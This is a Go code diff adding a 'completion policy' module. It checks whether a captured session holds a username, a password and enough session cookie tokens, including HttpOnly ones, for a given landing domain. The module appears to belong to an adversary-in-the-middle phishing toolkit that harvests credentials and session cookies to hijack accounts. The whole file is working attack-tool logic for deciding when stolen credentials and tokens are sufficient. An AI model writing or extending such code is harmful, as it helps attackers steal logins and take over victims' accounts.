@@ -0,0 +1,106 @@
+package main
+
+import (
+	"net/url"
+	"strings"
+)
+
+// CompletionPolicy declares what a "complete" capture looks like for a
+// landing domain: which cookie names are mandatory, whether HttpOnly ones
+// count towards that, a minimum overall token count, and whether
+// credentials are required at all.
+type CompletionPolicy struct {
+	Domain             string   `yaml:"domain" json:"domain"`
+	RequiredTokens     []string `yaml:"required_tokens,omitempty" json:"required_tokens,omitempty"`
+	AllowHTTPOnly      bool     `yaml:"allow_http_only" json:"allow_http_only"`
+	MinTokenCount      int      `yaml:"min_token_count" json:"min_token_count"`
+	RequireCredentials bool     `yaml:"require_credentials" json:"require_credentials"`
+}
+
+// defaultCompletionPolicy reproduces the original hardcoded rule: a
+// username, a password, and any one captured token.
+var defaultCompletionPolicy = CompletionPolicy{
+	AllowHTTPOnly:      true,
+	MinTokenCount:      1,
+	RequireCredentials: true,
+}
+
+// IsSatisfied reports whether session and its consolidated tokens satisfy
+// the policy.
+func (p CompletionPolicy) IsSatisfied(session Session, tokens []Token) bool {
+	if p.RequireCredentials && (session.Username == "" || session.Password == "") {
+		return false
+	}
+
+	usable := tokens
+	if !p.AllowHTTPOnly {
+		usable = excludeHTTPOnly(tokens)
+	}
+
+	if len(usable) < p.MinTokenCount {
+		return false
+	}
+
+	for _, required := range p.RequiredTokens {
+		if !hasToken(usable, required) {
+			return false
+		}
+	}
+
+	return true
+}
+
+func excludeHTTPOnly(tokens []Token) []Token {
+	var kept []Token
+	for _, t := range tokens {
+		if !t.HttpOnly {
+			kept = append(kept, t)
+		}
+	}
+	return kept
+}
+
+func hasToken(tokens []Token, name string) bool {
+	for _, t := range tokens {
+		if t.Name == name {
+			return true
+		}
+	}
+	return false
+}
+
+// CompletionPolicySet resolves a landing domain to the CompletionPolicy
+// that governs it, falling back to Default when no domain-specific policy
+// matches.
+type CompletionPolicySet struct {
+	Default  CompletionPolicy
+	ByDomain map[string]CompletionPolicy
+}
+
+// PolicyFor returns the most specific policy for domain: an exact match if
+// one is configured, otherwise the policy for the nearest parent domain,
+// otherwise Default.
+func (s CompletionPolicySet) PolicyFor(domain string) CompletionPolicy {
+	domain = strings.ToLower(domain)
+
+	if p, ok := s.ByDomain[domain]; ok {
+		return p
+	}
+	best, bestLen := s.Default, 0
+	for configured, p := range s.ByDomain {
+		if strings.HasSuffix(domain, "."+configured) && len(configured) > bestLen {
+			best, bestLen = p, len(configured)
+		}
+	}
+	return best
+}
+
+// domainFromSession extracts the landing page's hostname, the key
+// CompletionPolicySet.PolicyFor matches against.
+func domainFromSession(session Session) string {
+	u, err := url.Parse(session.LandingURL)
+	if err != nil {
+		return ""
+	}
+	return strings.ToLower(u.Hostname())
+}